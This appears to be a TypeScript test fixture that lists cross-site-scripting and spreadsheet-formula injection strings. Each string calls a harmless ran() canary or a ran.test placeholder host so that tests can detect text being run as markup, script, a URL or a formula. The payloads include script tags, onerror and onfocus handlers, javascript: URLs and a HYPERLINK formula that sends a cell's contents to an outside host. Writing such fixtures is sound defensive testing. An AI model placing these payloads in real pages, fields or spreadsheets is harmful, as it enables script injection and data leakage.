/**
 * Texts that run where a text is taken for markup, script, an address or a formula. Each calls `ran()`, asks `ran.test` for
 * something or leaves an element marked `data-ran`: a browser that took one for more than text shows it.
 */
export const PAYLOADS = [
  `"'><script data-ran>ran()</script><img data-ran src=x onerror=ran()></textarea></title><svg data-ran/onload=ran()>`,
  `</script><script data-ran>ran()</script><!--<script>\u2028\${ran()}{{ran()}}<a data-ran href=//ran.test>x</a>`,
  `javascript:ran()//" onmouseover="ran()" autofocus onfocus="ran()" data-ran="`,
  `=HYPERLINK("http://ran.test/?"&A1,"x")<iframe data-ran srcdoc="<script>parent.ran()</script>">`,
] as const

/** The same for fields that take forty characters. */
export const SHORT_PAYLOAD = '"><img data-ran src=x onerror=ran()>'

/** What a spreadsheet would run; a negative number runs nothing. */
export const FORMULA_START = /^(?!-\d+$)[=+\-@\t\r]/
